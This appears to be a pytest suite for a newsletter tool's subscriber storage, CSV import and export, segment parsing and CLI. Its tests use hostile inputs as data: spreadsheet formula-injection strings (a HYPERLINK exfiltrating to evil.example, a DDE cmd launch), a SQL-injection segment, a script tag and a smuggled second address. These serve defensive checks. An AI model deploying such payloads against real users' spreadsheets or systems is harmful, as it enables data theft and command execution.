"""The list and its storage, on SQLite and on PostgreSQL (no mocks of the database)."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
from pathlib import Path

import pytest
from email_validator import EmailNotValidError, validate_email
from sqlalchemy import Engine, insert, select
from typer.testing import CliRunner

from newsletter.audience import importing
from newsletter.audience import subscribers as subscriber_module
from newsletter.audience.addresses import normalize_address
from newsletter.audience.exporting import export_csv, export_file
from newsletter.audience.importing import ImportRejected, import_csv
from newsletter.audience.segments import Tag, parse_segment
from newsletter.audience.subscribers import (
    add_subscriber,
    audience_where,
    count_audience,
    count_subscribers,
    get_subscriber,
    iter_audience,
    iter_subscribers,
    remove_subscriber,
)
from newsletter.cli import app
from newsletter.config import Settings
from newsletter.errors import ConfigError, SubscriberError
from newsletter.storage import (
    SCHEMA_VERSION,
    deliveries,
    now,
    open_engine,
    schema_migrations,
    sends,
    subscribers,
    suppressions,
    transaction,
)

from conftest import write


def csv_file(tmp_path: Path, text: str, name: str = "list.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def emails(engine: Engine, **filters: str) -> list[str]:
    return [s.email for s in iter_subscribers(engine, **filters)]  # type: ignore[arg-type]


# --- storage -------------------------------------------------------------------------------


def test_migrations_recorded_once(engine: Engine, db_settings: Settings) -> None:
    again = open_engine(db_settings)
    with again.connect() as conn:
        versions = conn.scalars(select(schema_migrations.c.version)).all()
    again.dispose()
    assert versions == list(range(1, SCHEMA_VERSION + 1))


def test_newer_database_refused(engine: Engine, db_settings: Settings) -> None:
    with engine.begin() as conn:
        conn.execute(insert(schema_migrations).values(version=99, name="future", applied_at=now()))
    with pytest.raises(ConfigError, match="schema version 99, newer than this program"):
        open_engine(db_settings)


def test_sqlite_uses_wal(settings: Settings) -> None:
    engine = open_engine(settings)
    with engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
    engine.dispose()
    assert (settings.state_dir / "newsletter.db").is_file()


def test_unreachable_postgres_is_one_clear_line(settings: Settings) -> None:
    bad = dataclasses.replace(settings, database_url="postgresql://u:pw@127.0.0.1:1/none")
    with pytest.raises(ConfigError, match=r"cannot open the database .*127\.0\.0\.1:1") as info:
        open_engine(bad)
    assert "pw" not in str(info.value).replace("postgresql", "")


# --- adding and removing -------------------------------------------------------------------


def test_add_is_case_insensitive_and_normalises(engine: Engine) -> None:
    added = add_subscriber(engine, " Ana@Example.ORG ", name="Ana\n<b>Lima</b>", tags=["News"])
    assert added.email == "Ana@example.org" and added.tags == ("news",)
    assert added.name == "Ana <b>Lima</b>"  # one line, stored as typed; escaped on output
    assert added.confirmed_at is not None
    with pytest.raises(SubscriberError, match="already on the list"):
        add_subscriber(engine, "ana@example.org")
    with pytest.raises(SubscriberError, match="invalid address 'not an address'"):
        add_subscriber(engine, "not an address")
    with pytest.raises(SubscriberError, match="is not a tag"):
        add_subscriber(engine, "x@example.org", tags=["bad tag!"])


def test_left_addresses_never_come_back(engine: Engine) -> None:
    add_subscriber(engine, "bo@example.org")
    assert remove_subscriber(engine, "BO@example.org") == "bo@example.org unsubscribed"
    with pytest.raises(SubscriberError, match="is unsubscribed; only the subscriber"):
        add_subscriber(engine, "bo@example.org")
    assert get_subscriber(engine, "bo@example.org").status == "unsubscribed"  # type: ignore[union-attr]


def test_erase_deletes_personal_data_and_keeps_a_hash(engine: Engine, tmp_path: Path) -> None:
    added = add_subscriber(engine, "cy@example.org", name="Cy", tags=["news"])
    with engine.begin() as conn:
        stamp = now()
        conn.execute(
            insert(sends).values(issue="i", content_hash="h", provider="outbox", created_at=stamp)
        )
        conn.execute(
            insert(deliveries).values(
                issue="i",
                subscriber_id=added.id,
                email="cy@example.org",
                email_key="cy@example.org",
                name="Cy",
                state="sent",
                updated_at=stamp,
            )
        )
    message = remove_subscriber(engine, "cy@example.org", erase=True)
    assert "erased" in message
    assert get_subscriber(engine, "cy@example.org") is None
    with engine.connect() as conn:
        row = conn.execute(select(deliveries)).one()
    assert row.state == "sent" and "cy@" not in row.email and row.name == ""
    with pytest.raises(SubscriberError, match="erased at the subscriber's request"):
        add_subscriber(engine, "Cy@example.org")
    report = import_csv(engine, csv_file(tmp_path, "email\ncy@example.org\n"))
    assert report.added == 0 and report.skipped == 1
    assert report.problems[0].reason == "erased at the subscriber's request"


def test_one_address_however_its_domain_is_spelt(engine: Engine) -> None:
    add_subscriber(engine, "user@bücher.de", name="U")
    with pytest.raises(SubscriberError, match="already on the list"):
        add_subscriber(engine, "user@xn--bcher-kva.de")
    assert get_subscriber(engine, "USER@xn--bcher-kva.de") is not None
    assert "erased" in remove_subscriber(engine, "user@xn--bcher-kva.de", erase=True)
    assert get_subscriber(engine, "user@bücher.de") is None
    assert emails(engine) == []
    with pytest.raises(SubscriberError, match="erased at the subscriber's request"):
        add_subscriber(engine, "user@BÜCHER.de")


def test_strasse_and_strasse_with_sharp_s_are_two_people(engine: Engine) -> None:
    add_subscriber(engine, "Straße@example.org")
    add_subscriber(engine, "strasse@example.org")
    assert emails(engine) == ["Straße@example.org", "strasse@example.org"]


def test_erased_before_schema_3_stays_erased(engine: Engine, tmp_path: Path) -> None:
    """Schema 2 kept sha256(address.casefold()) of the address as it came; still honoured."""
    with engine.begin() as conn:
        for typed in ("Old@Bücher.de", "typed@XN--BCHER-KVA.de"):
            digest = hashlib.sha256(typed.casefold().encode()).hexdigest()
            conn.execute(
                insert(suppressions).values(email_hash=digest, reason="erased", created_at=now())
            )
    for address in ("old@bücher.de", "typed@bücher.de"):
        with pytest.raises(SubscriberError, match="erased at the subscriber's request"):
            add_subscriber(engine, address)
    report = import_csv(engine, csv_file(tmp_path, "email\nold@bücher.de\ntyped@BÜCHER.de\n"))
    assert (report.added, report.skipped) == (0, 2)
    assert remove_subscriber(engine, "old@bücher.de", erase=True) == (
        "old@bücher.de was already erased"
    )


# --- importing -----------------------------------------------------------------------------


def test_import_columns_tags_and_fields(engine: Engine, tmp_path: Path) -> None:
    path = csv_file(
        tmp_path,
        "Email,Name,Tags,Status,City\n"
        'ana@example.org,"Lima, Ana",news;Events,active,York\n'
        "bo@example.org,Bo,,pending,\n",
    )
    report = import_csv(engine, path, tags=["members"])
    assert (report.rows, report.added, report.invalid) == (2, 2, 0)
    ana = get_subscriber(engine, "ana@example.org")
    assert ana is not None
    assert (ana.name, ana.tags, ana.fields) == (
        "Lima, Ana",
        ("events", "members", "news"),
        {"City": "York"},
    )
    assert get_subscriber(engine, "bo@example.org").status == "pending"  # type: ignore[union-attr]


def test_import_is_all_or_nothing(engine: Engine, tmp_path: Path) -> None:
    add_subscriber(engine, "old@example.org", name="Old")
    path = csv_file(
        tmp_path,
        "email,name\nnew@example.org,New\nold@example.org,Renamed\nwith space@example.org,X\n"
        "bad@,Y\n",
    )
    with pytest.raises(ImportRejected) as info:
        import_csv(engine, path)
    report = info.value.report
    assert report.invalid == 2
    assert [(p.line, p.email) for p in report.problems] == [
        (4, "with space@example.org"),
        (5, "bad@"),
    ]
    assert emails(engine) == ["old@example.org"]
    assert get_subscriber(engine, "old@example.org").name == "Old"  # type: ignore[union-attr]
    report = import_csv(engine, path, skip_invalid=True)
    assert (report.added, report.updated, report.invalid) == (1, 1, 2)
    assert get_subscriber(engine, "old@example.org").name == "Renamed"  # type: ignore[union-attr]


def test_reimport_never_reactivates(engine: Engine, tmp_path: Path) -> None:
    add_subscriber(engine, "gone@example.org", tags=["news"])
    remove_subscriber(engine, "gone@example.org")
    with engine.begin() as conn:  # a bounce and a complaint reported by the provider
        for email, status in (("b@example.org", "bounced"), ("c@example.org", "complained")):
            stamp = now()
            conn.execute(
                insert(subscribers).values(
                    email=email,
                    email_key=email,
                    name="",
                    status=status,
                    source="t",
                    fields={},
                    created_at=stamp,
                    updated_at=stamp,
                )
            )
    path = csv_file(
        tmp_path,
        "email,name,tags,status\ngone@example.org,Back,events,active\n"
        "b@example.org,B,,\nc@example.org,C,,active\n",
    )
    report = import_csv(engine, path)
    assert report.kept_status == 2 and report.updated == 3
    statuses = {s.email: s.status for s in iter_subscribers(engine)}
    assert statuses == {
        "gone@example.org": "unsubscribed",
        "b@example.org": "bounced",
        "c@example.org": "complained",
    }
    gone = get_subscriber(engine, "gone@example.org")
    assert gone is not None and gone.name == "Back" and gone.tags == ("events", "news")


def test_import_can_record_that_someone_left(engine: Engine, tmp_path: Path) -> None:
    add_subscriber(engine, "a@example.org")
    import_csv(engine, csv_file(tmp_path, "email,status\na@example.org,unsubscribed\n"))
    left = get_subscriber(engine, "a@example.org")
    assert left is not None and left.status == "unsubscribed" and left.unsubscribed_at


def test_duplicates_reported_across_chunks(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importing, "CHUNK", 2)
    path = csv_file(
        tmp_path,
        "email\na@example.org\nb@example.org\nA@EXAMPLE.org\nc@example.org\nb@example.org\n",
    )
    report = import_csv(engine, path)
    assert (report.added, report.skipped) == (3, 2)
    assert [(p.line, p.reason) for p in report.problems] == [
        (4, "duplicate of line 2"),
        (6, "duplicate of line 3"),
    ]


def test_dry_run_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    report = import_csv(engine, csv_file(tmp_path, "email\na@example.org\n"), dry_run=True)
    assert report.added == 1 and report.dry_run
    assert emails(engine) == []


@pytest.mark.parametrize(
    ("content", "encoding", "expected"),
    [
        ("\ufeffemail,name\r\na@example.org,Ann\r\n\r\nb@example.org,Bé\r\n", "utf-8", 2),
        ("email;name\na@example.org;Ann\nb@example.org;Bob\n", "utf-8", 2),
        ('email,name\n\n\na@example.org,"Smith, Ann"\n\n', "utf-8", 1),
        ("email\nJosé@exämple.org\nuser@bücher.example\n", "utf-8", 2),
    ],
)
def test_awkward_csv_files(
    engine: Engine, tmp_path: Path, content: str, encoding: str, expected: int
) -> None:
    report = import_csv(engine, csv_file(tmp_path, content, encoding=encoding))
    assert (report.added, report.invalid) == (expected, 0), report.problems


def test_latin1_needs_the_encoding_option(engine: Engine, tmp_path: Path) -> None:
    path = csv_file(tmp_path, "email,name\na@example.org,Zoë Müller\n", encoding="latin-1")
    with pytest.raises(SubscriberError, match=r"list\.csv:\d+: not valid utf-8-sig text.*latin-1"):
        import_csv(engine, path)
    assert emails(engine) == []
    import_csv(engine, path, encoding="latin-1")
    assert get_subscriber(engine, "a@example.org").name == "Zoë Müller"  # type: ignore[union-attr]


def test_no_email_column(engine: Engine, tmp_path: Path) -> None:
    with pytest.raises(
        SubscriberError,
        match=r"list\.csv:1: no email column \(the header has: "
        r"name, phone\)",
    ):
        import_csv(engine, csv_file(tmp_path, "name,phone\nAnn,1\n"))
    with pytest.raises(SubscriberError, match="the file is empty"):
        import_csv(engine, csv_file(tmp_path, ""))


def test_unquoted_comma_and_bad_status(engine: Engine, tmp_path: Path) -> None:
    path = csv_file(
        tmp_path, "email,name,status\na@example.org,Smith, Ann,active\nb@example.org,B,gone\n"
    )
    with pytest.raises(ImportRejected) as info:
        import_csv(engine, path)
    reasons = [p.reason for p in info.value.report.problems]
    assert "4 fields where the header has 3" in reasons[0]
    assert "unknown status 'gone'" in reasons[1]


def test_export_round_trip(engine: Engine, tmp_path: Path) -> None:
    source = csv_file(
        tmp_path, 'email,name,tags,city\na@example.org,"A, B",x;y,Leeds\nb@example.org,B,,\n'
    )
    import_csv(engine, source)
    out = io.StringIO()
    assert export_csv(engine, out) == 2
    lines = out.getvalue().splitlines()
    assert lines[0] == "email,name,tags,status,created_at,city"
    assert lines[1].startswith('a@example.org,"A, B",x;y,active,') and lines[1].endswith(",Leeds")
    again = import_csv(engine, csv_file(tmp_path, out.getvalue(), name="again.csv"))
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)


def test_export_to_a_name_too_long_is_one_line(engine: Engine, tmp_path: Path) -> None:
    """OSError "File name too long" escaped export_file as a traceback."""
    add_subscriber(engine, "a@example.org")
    with pytest.raises(SubscriberError) as info:
        export_file(engine, tmp_path / ("a" * 300))
    message = str(info.value)
    assert len(message.splitlines()) == 1 and message.endswith(": File name too long")
    assert message.startswith("cannot write the export: ") and len(message) < 300
    assert list(tmp_path.iterdir()) == [tmp_path / "ws"]  # the workspace, nothing more


# --- reading and segments --------------------------------------------------------------------


def _tagged(engine: Engine) -> None:
    add_subscriber(engine, "a@example.org", tags=["news"])
    add_subscriber(engine, "b@example.org", tags=["news", "staff"])
    add_subscriber(engine, "c@example.org", tags=["events"])
    add_subscriber(engine, "d@example.org", tags=["events", "news"], status="pending")


def test_list_and_count_with_segments(engine: Engine) -> None:
    _tagged(engine)
    assert emails(engine, segment="news and not staff") == ["a@example.org", "d@example.org"]
    assert emails(engine, segment="(news or events) and not staff", status="active") == [
        "a@example.org",
        "c@example.org",
    ]
    assert count_subscribers(engine) == {"total": 4}
    assert count_subscribers(engine, by="status")["pending"] == 1
    assert count_subscribers(engine, by="tag") == {"events": 2, "news": 3, "staff": 1}
    with pytest.raises(SubscriberError, match="no subscriber has the tag 'nope'"):
        emails(engine, segment="news and nope")


def test_audience_is_the_active_list_or_its_segment(engine: Engine) -> None:
    _tagged(engine)
    remove_subscriber(engine, "c@example.org")
    assert count_audience(engine, "") == 2
    assert count_audience(engine, "news") == 2
    assert count_audience(engine, "news and not staff") == 1
    assert [s.email for s in iter_audience(engine, "news and not staff")] == ["a@example.org"]
    with transaction(engine) as conn:
        where = audience_where(conn, "events or staff")
        chosen = conn.scalars(select(subscribers.c.email).where(*where)).all()
    assert chosen == ["b@example.org"]
    with pytest.raises(SubscriberError, match="no subscriber has the tag 'nope'"):
        count_audience(engine, "nope")


def test_paging_streams_everything(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(subscriber_module, "PAGE", 3)
    for n in range(10):
        add_subscriber(engine, f"p{n}@example.org", tags=["t"])
    assert len(emails(engine, segment="t")) == 10


@pytest.mark.parametrize(
    "text", ["news and", "(news", "news or or x", "x' OR 1=1 --", "not", "", "news )"]
)
def test_segment_syntax_errors(text: str) -> None:
    with pytest.raises(SubscriberError):
        parse_segment(text)


def test_deep_or_long_segments_are_one_clear_line(workspace: Path) -> None:
    """5,000 nested brackets used to end in RecursionError."""
    with pytest.raises(SubscriberError, match=r"is 10004 characters; at most 500 fit"):
        parse_segment("(" * 5000 + "news" + ")" * 5000)
    with pytest.raises(SubscriberError, match=r"nests 'not' and brackets more than 50 deep"):
        parse_segment("(" * 60 + "news" + ")" * 60)
    with pytest.raises(SubscriberError, match=r"more than 50 deep"):
        parse_segment("not " * 60 + "news")
    assert parse_segment("(" * 49 + "news" + ")" * 49) == Tag("news")
    result = CliRunner().invoke(
        app,
        ["--workspace", str(workspace), "subscribers", "list", "--segment", "(" * 5000 + "a"],
    )
    assert result.exit_code == 1 and len(result.stderr.splitlines()) == 1, result.output
    assert result.stderr.startswith("Error: segment '((((")


# --- addresses -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "plain@example.org",
        "First.Last+tag@Sub.Example.CO.uk",
        "a@b.io",
        "x@localhost",
        "x@host.test",
        "x@xn--bcher-kva.example",
        "x@exa--mple.org",
        "a..b@example.org",
        ".a@example.org",
        "a@-example.org",
        "a@example.123",
        "a" * 65 + "@example.org",
        "o'brien@example.ie",
        "user@[127.0.0.1]",
        "a@example",
        "josé@example.org",
        "a@example.invalid",
        "a@sub.local",
        "1@2.com",
    ],
)
def test_fast_address_check_agrees_with_email_validator(address: str) -> None:
    try:
        expected: str | None = validate_email(address, check_deliverability=False).normalized
    except EmailNotValidError:
        expected = None
    try:
        got: str | None = normalize_address(address)
    except ValueError:
        got = None
    assert got == expected


# --- the command line ----------------------------------------------------------------------


def test_cli_import_report_and_exit_codes(workspace: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    path = write(tmp_path / "m.csv", "email,name\na@example.org,A\nbad@,B\na@example.org,C\n")
    base = ["--workspace", str(workspace), "subscribers"]
    result = runner.invoke(app, [*base, "import", str(path)])
    assert result.exit_code == 1
    assert f"{path}:3: bad@: " in result.stderr
    assert f"{path}:4: a@example.org: duplicate of line 2" in result.stderr
    assert "nothing was imported" in result.stderr
    result = runner.invoke(app, [*base, "import", str(path), "--skip-invalid", "--tag", "m"])
    assert result.exit_code == 0, result.output
    assert "3 rows: 1 added, 0 updated, 0 unchanged, 1 skipped, 1 invalid" in result.stdout
    result = runner.invoke(app, [*base, "list", "--json"])
    assert json.loads(result.stdout)["tags"] == ["m"]
    result = runner.invoke(app, [*base, "count", "--by", "status", "--json"])
    assert json.loads(result.stdout)["active"] == 1
    out = tmp_path / "out.csv"
    result = runner.invoke(app, [*base, "export", "-o", str(out)])
    assert result.exit_code == 0 and out.read_text().startswith("email,name,tags")
    result = runner.invoke(app, [*base, "remove", "a@example.org", "--erase"])
    assert "erased" in result.stdout
    result = runner.invoke(app, [*base, "add", "a@example.org"])
    assert result.exit_code == 1 and "erased at the subscriber's request" in result.stderr


def test_name_with_html_is_data(engine: Engine) -> None:
    add_subscriber(engine, "h@example.org", name="<script>alert(1)</script>")
    with engine.connect() as conn:
        stored = conn.scalar(select(subscribers.c.name))
    assert stored == "<script>alert(1)</script>"


# --- exports that a spreadsheet opens safely -------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "'=1+1",  # already quoted by someone: must come back as it was
    "'plain",
]


def test_export_never_starts_a_cell_with_a_formula(engine: Engine, tmp_path: Path) -> None:
    for n, value in enumerate(FORMULAS):
        add_subscriber(engine, f"s{n}@example.org", name=value)
    add_subscriber(engine, "-dash@example.org", name="-Ana-")
    with engine.begin() as conn:
        conn.execute(subscribers.update().values(fields={"=cmd": "+44 20 7946 0000"}))
    out = io.StringIO()
    assert export_csv(engine, out) == len(FORMULAS) + 1
    text = out.getvalue()
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # OWASP: a quote in front, and the cell in double quotes.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text
    assert ',"\'-1+1",' in text and ',"\'@SUM(1+1)",' in text
    assert text.splitlines()[0] == 'email,name,tags,status,created_at,"\'=cmd"'

    # Import reads an export back to exactly what was stored.
    again = import_csv(engine, csv_file(tmp_path, text, name="back.csv"))
    assert (again.added, again.updated, again.unchanged) == (0, 0, len(FORMULAS) + 1)
    names = {s.email: s.name for s in iter_subscribers(engine)}
    assert names["-dash@example.org"] == "-Ana-"
    assert [names[f"s{n}@example.org"] for n in range(len(FORMULAS))] == FORMULAS
    assert get_subscriber(engine, "s0@example.org").fields == {"=cmd": "+44 20 7946 0000"}  # type: ignore[union-attr]


def test_cli_export_is_private_and_refuses_a_folder(workspace: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    base = ["--workspace", str(workspace), "subscribers"]
    assert runner.invoke(app, [*base, "add", "a@example.org"]).exit_code == 0
    out = tmp_path / "out.csv"
    result = runner.invoke(app, [*base, "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.stat().st_mode & 0o777 == 0o600  # subscribers' data: the owner's only

    result = runner.invoke(app, [*base, "export", "-o", str(tmp_path)])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"Error: {tmp_path}: is a folder")
    assert len(result.stderr.splitlines()) == 1

    blocked = out / "inside-a-file.csv"  # a path under a file: cannot be written
    result = runner.invoke(app, [*base, "export", "-o", str(blocked)])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: cannot write the export: ")
    assert len(result.stderr.splitlines()) == 1
    assert out.read_text().startswith("email,")


def test_cli_add_and_remove_take_a_mailbox(workspace: Path) -> None:
    runner = CliRunner()
    base = ["--workspace", str(workspace), "subscribers"]
    result = runner.invoke(app, [*base, "add", "Zoë Ngata <zoe@example.org>"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, [*base, "add", "Ana <ana@example.org>", "--name", "Ana Lima"])
    assert result.exit_code == 0, result.output
    listed = runner.invoke(app, [*base, "list"]).stdout.splitlines()
    assert [line.split("\t")[:3] for line in listed] == [
        ["zoe@example.org", "active", "Zoë Ngata"],
        ["ana@example.org", "active", "Ana Lima"],
    ]
    result = runner.invoke(app, [*base, "add", "Evil <a@b.co>, victim@example.org"])
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: 'Evil <a@b.co>, victim@example.org' is 2 addresses; "
        "give one, e.g. 'Zoë Ngata <zoe@example.org>'\n"
    )
    result = runner.invoke(app, [*base, "remove", "Zoë <ZOE@example.org>"])
    assert result.stdout == "zoe@example.org unsubscribed\n"
